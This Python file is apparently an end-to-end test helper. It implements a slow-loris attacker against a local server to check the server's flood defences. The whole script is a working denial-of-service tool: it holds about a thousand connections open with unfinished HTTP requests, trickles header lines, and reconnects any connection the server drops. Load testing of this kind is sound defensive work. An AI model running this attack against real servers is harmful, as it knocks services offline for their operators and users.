#!/usr/bin/env python3
"""test/e2e/slowloris.py — a slow-loris attacker for 35_flood.sh.

Keeps N connections from one source address (bound with --source, e.g.
127.0.0.2, so the defender's other clients on 127.0.0.1 count as another
address) to HOST:PORT, each sending an unfinished request and one more header
line every --trickle seconds; a connection the server closes is opened again.
Runs --seconds, then prints one line: key=value counts.
"""
import argparse
import resource
import selectors
import socket
import time

ap = argparse.ArgumentParser()
ap.add_argument("--host", default="127.0.0.1")
ap.add_argument("--port", type=int, required=True)
ap.add_argument("--source", default="127.0.0.2")
ap.add_argument("--connections", type=int, default=1050)
ap.add_argument("--seconds", type=float, default=30)
ap.add_argument("--trickle", type=float, default=1.0)
a = ap.parse_args()

soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
want = a.connections + 64
if soft < want:
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))

sel = selectors.DefaultSelector()
stats = {"opened": 0, "closed_by_server": 0, "connect_errors": 0, "bytes_sent": 0}
socks = set()


def open_one():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        s.bind((a.source, 0))
        s.setblocking(False)
        s.connect_ex((a.host, a.port))
    except OSError:
        stats["connect_errors"] += 1
        s.close()
        return
    socks.add(s)
    sel.register(s, selectors.EVENT_READ)
    stats["opened"] += 1


def drop(s):
    if s in socks:
        socks.discard(s)
        try:
            sel.unregister(s)
        except (KeyError, ValueError):
            pass
        s.close()


def send(s, data):
    try:
        n = s.send(data)
        stats["bytes_sent"] += n
        return True
    except BlockingIOError:
        return True
    except OSError:
        stats["closed_by_server"] += 1
        drop(s)
        return False


end = time.monotonic() + a.seconds
started = {}
for _ in range(a.connections):
    open_one()
next_trickle = time.monotonic()
while time.monotonic() < end:
    for key, _ in sel.select(timeout=0.2):
        s = key.fileobj
        try:
            if s.recv(4096) == b"":
                stats["closed_by_server"] += 1
                drop(s)
        except BlockingIOError:
            pass
        except OSError:
            stats["closed_by_server"] += 1
            drop(s)
    now = time.monotonic()
    if now >= next_trickle:
        next_trickle = now + a.trickle
        for s in list(socks):
            if s not in started:
                started[s] = True
                send(s, b"GET /health HTTP/1.1\r\nHost: x\r\n")
            else:
                send(s, b"X-Slow: 1\r\n")
        while len(socks) < a.connections and time.monotonic() < end:
            open_one()
            if stats["opened"] % 50 == 0:
                break  # reconnect in waves, not in a busy loop
print(" ".join(f"{k}={v}" for k, v in stats.items()) + f" open_at_end={len(socks)}")
